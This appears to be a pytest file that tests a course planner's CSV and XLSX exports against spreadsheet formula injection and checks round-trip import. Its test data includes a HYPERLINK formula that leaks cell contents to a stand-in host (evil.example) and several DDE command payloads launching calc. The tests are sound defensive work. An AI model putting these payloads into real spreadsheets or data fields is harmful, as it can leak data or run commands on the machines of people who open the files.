"""Finding 5: formula injection. Text that a spreadsheet would run (`=`, `+`, `-`, `@`, tab,
CR) leaves every CSV and XLSX writer as inert text; numbers stay numbers; control characters
never crash a writer and never reach the file; what is exported imports back unchanged."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlmodel import Session, select

from planner import db
from planner.models import Course, Learner
from planner.services.io.safe import TRIGGERS, restore_cell, safe_cell
from tests.web.test_plans import solve
from tests.web.test_scenarios import store, tiny_scenario

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
CMD = "=cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, CMD, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
            "\t=1+1", "\r=1+1"]  # fmt: skip


def assert_inert_csv(text: str) -> list[list[str]]:
    """No cell of the CSV starts with a formula trigger (a number like -3 may)."""
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    for row in rows:
        for cell in row:
            if cell[:1] in TRIGGERS:
                float(cell)  # only a plain number may start with + or -
    return rows


def assert_inert_xlsx(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert cell.value[:1] not in TRIGGERS, (sheet.title, cell.coordinate)
                cells.append(cell.value)
    return cells


@pytest.fixture
def poisoned_plan(app):
    """A solved plan whose course titles and learner ids carry the attack strings."""
    body = tiny_scenario()
    for course, payload in zip(body["courses"], PAYLOADS, strict=False):
        course["title"] = payload
    sid = store(app, body)
    return sid, solve(app, sid)


def test_plan_csv_and_xlsx_hold_no_formula(staff_client, poisoned_plan):
    _, pid = poisoned_plan
    rows = assert_inert_csv(staff_client.get(f"/plans/{pid}/export.csv").get_data(as_text=True))
    column = rows[0].index("title")
    titles = {r[column] for r in rows[1:]}
    assert "'" + HYPERLINK in titles  # kept, readable, but text
    cells = assert_inert_xlsx(staff_client.get(f"/plans/{pid}/export.xlsx").get_data())
    assert "'" + HYPERLINK in cells
    # numbers stay numbers: credits and costs are numeric cells, not text
    assert any(isinstance(v, int | float) and not isinstance(v, bool) for v in cells)


def test_cohort_gaps_csv_neutralises_team_names(app, staff_client, web_session):
    web_session.execute(select(Learner))  # the template's learners
    for learner in web_session.exec(select(Learner)).all():
        learner.team = CMD
        web_session.add(learner)
    web_session.commit()
    rows = assert_inert_csv(staff_client.get("/cohort/gaps.csv").get_data(as_text=True))
    assert any(r[0] == "'" + CMD for r in rows[1:])


def test_catalog_export_cli_and_round_trip(cli, app, web_db_path, monkeypatch, tmp_path):
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{web_db_path}")
    with Session(db.get_engine(app)) as session:
        course = session.exec(select(Course)).first()
        course_id = course.id
        course.title = HYPERLINK
        # Legacy data: a control character that the forms now refuse must not crash a writer.
        other = session.exec(select(Course).where(Course.id != course_id)).first()
        other_id, other.title = other.id, "bell\x07 and NUL\x00 title"
        session.add_all([course, other])
        session.commit()
    out = tmp_path / "courses.xlsx"
    result = cli("export", "courses", "--format", "xlsx", "--out", out)
    assert result.exit_code == 0, result.output
    cells = assert_inert_xlsx(out.read_bytes())
    assert "'" + HYPERLINK in cells and "bell and NUL title" in cells
    result = cli("export", "courses", "--format", "csv")
    assert result.exit_code == 0 and "\x07" not in result.output
    assert_inert_csv(result.output)
    # Import the workbook back: the title is the original text again, not "'=HYPERLINK…".
    result = cli("import", out)
    assert result.exit_code == 0, result.output
    with Session(db.get_engine(app)) as session:
        assert session.get(Course, course_id).title == HYPERLINK
        assert session.get(Course, other_id).title == "bell and NUL title"


def test_calibration_csv_keeps_negative_numbers_and_neutralises_names(
    staff_client, learner_client, web_session
):
    learner = web_session.get(Learner, "test.learner")
    learner.name = "@SUM(1+1)"
    web_session.add(learner)
    web_session.commit()
    learner_client.post("/assess/", data={"level-data.sql": "1"})
    staff_client.post("/assess/staff/test.learner", data={"skill": "data.sql", "level": "4"})
    rows = assert_inert_csv(staff_client.get("/assess/report.csv").get_data(as_text=True))
    assert any("'@SUM(1+1)" in r for r in rows)
    gaps = [r for r in rows if r and r[0] == "gap"]
    assert gaps and gaps[0][-1] == "-3"  # a negative number is data, not a formula


@pytest.mark.parametrize("text", [*PAYLOADS, "'=x", "''+y", "'plain", "plain", "-3", "+4.5"])
def test_safe_cell_round_trips(text):
    assert restore_cell(safe_cell(text)) == text
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5  # numbers untouched
